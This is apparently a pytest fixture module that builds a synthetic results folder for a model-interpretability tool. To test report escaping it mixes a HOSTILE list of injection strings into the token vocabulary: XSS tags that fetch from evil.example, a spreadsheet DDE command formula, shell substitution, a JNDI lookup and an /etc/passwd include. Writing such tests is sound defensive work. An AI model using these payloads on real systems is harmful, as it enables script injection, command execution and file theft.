"""A whole results folder of made-up but plausible tables, by the contract in docs/architecture.md."""

import re
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from ffkv import store, tables
from ffkv.activations.data import FIXED_POINT, HISTOGRAM_EDGES, Negative, Triggers, write_triggers
from ffkv.corpus import data
from ffkv.corpus.encode import Encoded
from ffkv.intervals import box, wilson
from ffkv.model.anatomy import Anatomy, Layer, Write, write_anatomy
from ffkv.report.figures import CASES, CATEGORIES
from ffkv.settings import Settings
from ffkv.values.projections import Projections, write_projections

HOSTILE = [
    " </script><script>alert(1)</script>",
    ' <img src="http://evil.example/x" onerror="alert(1)">',
    ' "onmouseover="alert(1)',
    " \u202egnp.exe",
    " nul\x00bell\x07",
    " $\\frac{1}{",
    " line\nbreak",
    " {{ 7 * 7 }}",
    " NA",
    " <svg/onload=fetch('http://evil.example/svg')><a href=javascript:alert(1)>x</a>",
    " ]]></style></title></textarea><body onload=\"document.title='pwned'\">",
    " <style>@import 'http://evil.example/css';*{background:url(http://evil.example/bg)}</style>",
    " <iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe><base href=http://evil.example/>",
    " <meta http-equiv=refresh content='0;url=http://evil.example/'><link rel=prefetch href=//evil.example/a>",
    " שלום ו\u202dעולם مرحبا)",
    " e" + "\u0301\u0335" * 40,
    " " + "unbroken" * 150,
    " =cmd|' /C calc'!A0",
    " $(touch pwned) `x` ${jndi:ldap://evil.example/a} {% include '/etc/passwd' %}",
]
WORDS = " the of a in to part line each model file returns list string object when is not path name value"
VOCABULARY = ["<|end|>", *re.findall(r" \w+", WORDS), *HOSTILE]
MEMORIES, KEPT, PREFIXES = 32, 12, 400


def identities() -> dict:
    return {"model": "synthetic", "model_hash": "0123456789abcdef", "tokenizer_hash": "fedcba9876543210"}


def write_results(folder: Path, layers: int = 6, signed: bool = True, gated: bool = False, **overrides) -> Path:
    """Writes `folder` as a finished run would stand there; `overrides` go into the settings. Returns the folder.

    signed: the model has negative coefficients, and they were kept. gated: its memories have gates.
    """
    generator = np.random.default_rng(7)
    settings = Settings.model_validate({"triggers": {"per_key": KEPT}, **overrides})
    folder.mkdir(parents=True)
    (folder / "settings.json").write_text(settings.model_dump_json())
    _model(folder, layers, signed, gated)
    corpus = _corpora(folder, generator)
    _triggers(folder, corpus, layers, signed, gated)
    _keys(folder, layers, generator)
    _values(folder, layers, signed, generator)
    _composition(folder, layers, generator)
    _refinement(folder, layers, generator)
    _costs(folder)
    return folder


def _model(folder: Path, layers: int, signed: bool, gated: bool) -> None:
    (folder / "model").mkdir()
    kind = "gated" if gated else "plain"
    found = [
        Layer(
            n,
            f"h.{n}",
            [Write(f"h.{n}.c_proj", [f"h.{n}.c_fc"], kind, MEMORIES, f"h.{n}.gate" if gated else "")],
            signed,
        )
        for n in range(layers)
    ]
    anatomy = Anatomy(
        checkpoint="embedded",
        revision="main",
        dtype="float32",
        trust_remote_code=False,
        architecture="GPT2LMHeadModel",
        activation="gelu_new",
        parameters=1_234_567,
        model_hash="0123456789abcdef",
        tokenizer_hash="fedcba9876543210",
        vocabulary=len(VOCABULARY),
        context=128,
        width=160,
        last_block="h.5",
        returns=2,
        layers=found,
        errors={"memories": 3.1e-7, "head": 0.0},
        versions={"ffkv": "0.1.0", "torch": "2.13.0"},
    )
    write_anatomy(folder / "model", anatomy)
    with store.create(folder / "model" / "vocabulary.h5", "vocabulary", identities()) as file:
        store.put_texts(file, "token", VOCABULARY, "vocabulary", "text of each token")
    steps = np.repeat(np.arange(0, 1501, 100), 2)
    loss = 3 + 5 * np.exp(-steps / 300) + np.tile([0, 0.1], len(steps) // 2)
    curves = {"step": steps, "tokens": steps * 2048, "split": ["train", "validation"] * (len(steps) // 2)}
    tables.write(pd.DataFrame({**curves, "loss": loss, "perplexity": np.exp(loss)}), folder / "checkpoint/training.csv")


def _corpora(folder: Path, generator: np.random.Generator) -> data.Corpus:
    for split in ("train", "validation"):
        encoded = Encoded(names=["os.rst", "re.rst"])
        for number in range(60):
            ids = generator.integers(1, len(VOCABULARY), generator.integers(4, 30)).astype(np.int32)
            encoded.ids.append(ids)
            encoded.text.append("".join(VOCABULARY[token] for token in ids))
            encoded.ends.append(np.cumsum([len(VOCABULARY[token]) for token in ids]).astype(np.int32))
            encoded.document.append(number % 2)
            encoded.multiplicity.append(1)
        encoded.counts.update(documents=2, sentences=64, duplicate_sentences=3, one_token_sentences=1)
        attributes = {**identities(), "split": split, "settings": {"dataset": "embedded"}}
        data.write(folder / "corpus" / f"{split}.h5", encoded, [], len(VOCABULARY), False, attributes)
    return data.read(folder / "corpus" / "train.h5")


def _triggers(folder: Path, corpus: data.Corpus, layers: int, signed: bool, gated: bool) -> None:
    generator = np.random.default_rng(8)
    keys = layers * MEMORIES
    prefixes = int((corpus.lengths - 1).sum())
    positive, negative = (_examples(corpus, keys, sign, gated, prefixes, generator) for sign in (1, -1))
    histogram = generator.poisson(40 * 0.6 ** np.arange(len(HISTOGRAM_EDGES) - 1), (keys, len(HISTOGRAM_EDGES) - 1))
    write_triggers(
        folder / "triggers.h5",
        Triggers(
            **positive,
            layer_offset=np.arange(layers + 1) * MEMORIES,
            total=(positive["coefficient"].sum(1) / FIXED_POINT).astype(np.int64),
            maximum=positive["coefficient"][:, 0],
            histogram=histogram,
            prefixes=prefixes,
            attributes={**identities(), "corpus_hash": corpus.attributes["corpus_hash"]},
            negative=Negative(**negative, minimum=negative["coefficient"][:, 0]) if signed else None,
        ),
    )


def _examples(
    corpus: data.Corpus, keys: int, sign: int, gated: bool, prefixes: int, generator: np.random.Generator
) -> dict[str, np.ndarray]:
    sentence = np.argsort(generator.random((keys, len(corpus))))[:, :KEPT].astype(np.int32)
    position = generator.integers(1, corpus.lengths[sentence]).astype(np.int32)
    next_token = corpus.next_token(sentence, position)
    coefficient = sign * np.sort(generator.gamma(2, 1, (keys, KEPT)))[:, ::-1].astype(np.float32)
    gate = generator.choice([-1, 1], (keys, KEPT)).astype(np.int8) * gated
    count = np.full(keys, KEPT)
    count[::MEMORIES] = 0  # the first key of each layer is dead
    count[1::MEMORIES] = 2
    absent = np.arange(KEPT) >= count[:, None]
    for values, nothing in ((coefficient, 0), (sentence, -1), (position, 0), (next_token, -1), (gate, 0)):
        values[absent] = nothing
    return {
        "coefficient": coefficient,
        "sentence": sentence,
        "position": position,
        "next_token": next_token,
        "gate": gate,
        "count": count,
        "fires": np.where(count, generator.integers(KEPT, prefixes, keys), 0),
    }


def _shares(generator: np.random.Generator, layers: int, names: list[str], column: str, total: int) -> pd.DataFrame:
    """Shares that add up to 1 in each layer, drifting from the first name to the last."""
    drift = np.linspace(0, 1, layers)[:, None]
    weights = 0.05 + np.abs(np.linspace(1, 0, len(names)) - drift) + generator.random((layers, len(names))) / 4
    counts = np.floor(total * weights / weights.sum(1, keepdims=True)).astype(int)
    counts[:, 0] += total - counts.sum(1)
    index = pd.MultiIndex.from_product([range(layers), names], names=["layer", column])
    table = pd.DataFrame({"prefixes": counts.ravel()}, index=index).reset_index()
    return table.assign(share=table["prefixes"] / total)


def _keys(folder: Path, layers: int, generator: np.random.Generator) -> None:
    both = [_shares(generator, layers, names, "category", 500) for names in (CATEGORIES, CATEGORIES[::-1])]
    both = [table.assign(sample=sample) for table, sample in zip(both, ("trigger", "random"))]
    tables.write(pd.concat(both)[["sample", "layer", "category", "prefixes", "share"]], folder / "keys/categories.csv")
    summary = pd.DataFrame(
        {"sample": np.repeat(["trigger", "random"], layers), "layer": list(range(layers)) * 2, "keys": 20,
         "keys_with_pattern": [18] * layers + [1] * layers, "patterns_per_key": 3.5, "coverage": 0.7}
    )  # fmt: skip
    tables.write(summary, folder / "keys/patterns.csv")
    removal = pd.DataFrame(
        [
            {"layer": layer, "removed": removed, "keys": 20, "triggers": 240, "skipped": 3, "change": change + layer,
             "low": change + layer - 2, "high": change + layer + 2}
            for layer in range(layers)
            for removed, change in (("first", -12.0), ("last", -70.0), ("random", -20.0))
        ]
    )  # fmt: skip
    tables.write(removal, folder / "keys/removal.csv")
    activity = {"keys": MEMORIES, "dead": 1, "fewer": 2, "firing_q1": 0.1, "firing_median": 0.2, "firing_q3": 0.3}
    tables.write(pd.DataFrame([{"layer": layer, **activity} for layer in range(layers)]), folder / "keys/activity.csv")
    found = pd.DataFrame(
        [
            {"sample": sample, "layer": layer, "memory": memory, "pattern": number, "kind": "last word",
             "family": ("shallow", "semantic")[number], "label": f"ends with “{HOSTILE[memory % len(HOSTILE)]}”",
             "prefixes": 3 + (memory + number) % (KEPT - 3), "chance": 0.01, "p_value": 1e-9, "q_value": 1e-7,
             "ranks": list(range(3 + (memory + number) % (KEPT - 3)))}
            for sample in ("trigger", "random")
            for layer in range(layers)
            for memory in range(1, 8)
            for number in (0, 1)
        ]
    )  # fmt: skip
    tables.write(found, folder / "keys/patterns/0.parquet")
    (folder / "keys/patterns/1.parquet").write_text("of an earlier run, with more groups of layers")


def _values(folder: Path, layers: int, signed: bool, generator: np.random.Generator) -> None:
    keys = MEMORIES - 1
    own = np.round(keys * 0.6 * (np.arange(layers) / layers) ** 2).astype(int)
    rates = {"trigger": own, "permuted": own // 4, "unigram": np.ones(layers, int), "uniform": np.zeros(layers, int)}
    if signed:
        rates["negative"] = own // 2
    rows = [
        {"layer": layer, "source": source, "agreeing": agreeing[layer], "keys": keys, "dead": 1}
        for source, agreeing in rates.items()
        for layer in range(layers)
    ]
    agreement = pd.DataFrame(rows)
    low, high = wilson(agreement["agreeing"], agreement["keys"])
    tables.write(
        agreement.assign(rate=agreement["agreeing"] / keys, low=low, high=high), folder / "values/agreement.csv"
    )
    ranks = [
        {"layer": layer, "keys": keys, **box(generator.integers(0, 30 - layer // 2, 80))} for layer in range(layers)
    ]
    tables.write(pd.DataFrame(ranks), folder / "values/rank.csv")
    edges, counts = np.linspace(0.001, 0.2, 9), np.array([900, 120, 40, 12, 6, 3, 0, 2])
    agreeing = np.array([10, 12, 9, 4, 3, 2, 0, 2])
    low, high = wilson(agreeing, counts)
    bins = {"low": edges[:-1], "high": edges[1:], "values": counts, "agreeing": agreeing}
    rate = np.where(counts, agreeing / np.maximum(counts, 1), np.nan)
    tables.write(
        pd.DataFrame({**bins, "rate": rate, "rate_low": low, "rate_high": high}), folder / "values/probability.csv"
    )
    predictive = [
        {"layer": number % layers, "memory": number, "norm": 2.5, "top_token": number, "token": VOCABULARY[number],
         "top_probability": 0.2 / (1 + number), "triggers": KEPT, "matching": number % 3,
         "precision": number % 3 / KEPT, "prefix": "".join(HOSTILE) if number % 3 else "",
         "next_token": VOCABULARY[number] if number % 3 else ""}
        for number in range(20)
    ]  # fmt: skip
    tables.write(pd.DataFrame(predictive), folder / "values/predictive.csv")
    where = [{"layer": layer, "values": 20 // layers, "matching": 3} for layer in range(layers)]
    tables.write(pd.DataFrame(where), folder / "values/predictive_layers.csv")
    _projections(folder, layers, signed, generator)


def _projections(folder: Path, layers: int, signed: bool, generator: np.random.Generator) -> None:
    layer, memory = (grid.ravel() for grid in np.mgrid[:layers, :MEMORIES])
    columns = {
        "layer": layer, "memory": memory, "norm": 1.0, "top_token": memory % 20, "top_probability": 0.2,
        "triggers": np.where(memory == 0, 0, KEPT), "next_token": 3, "rank": 17, "agrees": memory % 2 == 0,
        "matching": 3, "first_match": 2, "bottom_token": memory % 7,
    }  # fmt: skip
    if signed:
        columns |= {"negative_triggers": np.where(memory == 0, 0, KEPT), "negative_next_token": 4}
        columns["negative_agrees"] = memory % 3 == 0
    tables.write(pd.DataFrame(columns), folder / "values/memories/0.parquet")
    top = generator.integers(0, len(VOCABULARY), (len(layer), 15)).astype(np.int32)
    projections = Projections(
        layer=layer,
        memory=memory,
        top=top[:, 0],
        tied=np.zeros(len(layer), bool),
        top_token=top,
        top_log_probability=np.log(0.3 / (1 + np.arange(15)))[None].repeat(len(layer), 0).astype(np.float32),
        bottom=top[:, -1],
        bottom_token=top[:, ::-1],
        bottom_log_probability=np.log(1e-9 * (1 + np.arange(15)))[None].repeat(len(layer), 0).astype(np.float32),
        norm=np.ones(len(layer), np.float32),
        attributes=identities(),
    )
    write_projections(folder / "values/projections/0.h5", projections)


def _boxes(layers: int, centre: np.ndarray, spread: float, generator: np.random.Generator) -> pd.DataFrame:
    samples = np.clip(centre[:, None] + spread * generator.standard_normal((layers, 200)), 0, 1)
    return pd.DataFrame([{"layer": layer, "prefixes": PREFIXES, **box(sample)} for layer, sample in enumerate(samples)])


def _rates(layers: int, count: np.ndarray, **columns) -> pd.DataFrame:
    low, high = wilson(count, np.full(layers, PREFIXES))
    table = {
        "layer": range(layers),
        "prefixes": PREFIXES,
        **columns,
        "share": count / PREFIXES,
        "low": low,
        "high": high,
    }
    return pd.DataFrame(table)


def _composition(folder: Path, layers: int, generator: np.random.Generator) -> None:
    depth = np.linspace(0, 1, layers)
    tables.write(_boxes(layers, 0.5 - 0.35 * depth, 0.06, generator), folder / "composition/active.csv")
    without = np.round(PREFIXES * (0.95 - 0.3 * depth)).astype(int)
    both = [
        _rates(layers, without - less, reading=reading, without=without - less)
        for reading, less in (("active", 0), ("all", 60))
    ]
    order = ["layer", "reading", "prefixes", "without", "share", "low", "high"]
    tables.write(pd.concat(both)[order], folder / "composition/agreement.csv")
    cases = {"cases": 50, "stop_word": 30, "stop_word_share": 0.6, "short": 21, "short_share": 0.42}
    base = {"base_stop_word_share": 0.4, "base_short_share": 0.2}
    tables.write(
        pd.DataFrame([{"layer": n, **cases, **base} for n in range(-1, layers)]), folder / "composition/cases.csv"
    )
    median = 6 + 10 * (1 - depth)
    effective = {
        "memories": MEMORIES,
        "effective_q1": median - 2,
        "effective_median": median,
        "effective_q3": median + 3,
    }
    tables.write(
        pd.DataFrame({"layer": range(layers), **effective, "participation_median": median / 2}),
        folder / "composition/effective.csv",
    )


def _refinement(folder: Path, layers: int, generator: np.random.Generator) -> None:
    depth = np.linspace(0.05, 0.9, layers)
    matching = np.round(PREFIXES * depth).astype(int)
    tables.write(_rates(layers, matching, matching=matching), folder / "refinement/residual.csv")
    tables.write(_boxes(layers, depth / 2, 0.1, generator), folder / "refinement/probability.csv")
    breakdown = _shares(generator, layers, CASES, "case", PREFIXES)
    low, high = wilson(breakdown["prefixes"], np.full(len(breakdown), PREFIXES))
    tables.write(breakdown.assign(low=low, high=high), folder / "refinement/breakdown.csv")
    changes = [
        {"prefix": number, "text": "".join(HOSTILE[: number % 9 + 1]), "next_token": VOCABULARY[number],
         "residual_token": VOCABULARY[-number - 1], "output_token": VOCABULARY[number + 2],
         "cosine": 0.1 * number - 0.5, "cosine_percentile": 0.05 * number, "related": ""}
        for number in range(18)
    ]  # fmt: skip
    tables.write(pd.DataFrame(changes), folder / "refinement/changes.csv")


def _costs(folder: Path) -> None:
    for name, seconds, memory in (
        ("triggers/0", 61.5, 812.3),
        ("triggers/1", 58.5, "-"),
        ("values", 0.3, 101.0),
        ("report", 3, 99),
    ):
        path = folder / "benchmarks" / f"{name}.tsv"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"s\th:m:s\tmax_rss\n{seconds}\t0:01:01\t{memory}\n")


@pytest.fixture(scope="session")
def folder(tmp_path_factory) -> Path:
    """The results of a finished run of six layers."""
    return write_results(tmp_path_factory.mktemp("results") / "demo")


@pytest.fixture
def write(tmp_path) -> Callable[..., Path]:
    """Writes another finished run; see `write_results`."""
    return lambda **options: write_results(tmp_path / "other", **options)


@pytest.fixture(scope="session")
def hostile() -> list[str]:
    """Texts of the corpus that a careless page would run, reverse or swallow."""
    return HOSTILE
